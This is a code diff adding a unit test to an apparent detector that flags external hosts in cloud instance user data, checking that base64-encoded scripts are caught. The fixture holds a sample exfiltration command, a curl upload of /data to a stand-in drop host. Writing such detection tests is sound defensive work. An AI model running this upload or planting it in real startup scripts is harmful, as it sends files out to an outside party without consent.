@@ -193,3 +193,12 @@ def test_urls_written_in_a_script_are_candidates_outside_aws_only() -> None:
     [c] = found({"userData": script})
     assert (c.kind, c.host) == (Kind.EXTERNAL_HOST, "drop.example.net")
     assert found({"comment": "see https://docs.example.net for the format"}) == []  # prose is not code
+
+
+def test_urls_in_base64_user_data_are_candidates_too() -> None:
+    import base64
+
+    encoded = base64.b64encode(b"#!/bin/sh\ncurl -T /data https://drop.example.net/u\n").decode()
+    [c] = found({"userData": encoded})
+    assert (c.kind, c.host) == (Kind.EXTERNAL_HOST, "drop.example.net")
+    assert found({"sourceCodeHash": base64.b64encode(bytes(range(32))).decode()}) == []  # a hash, not a script
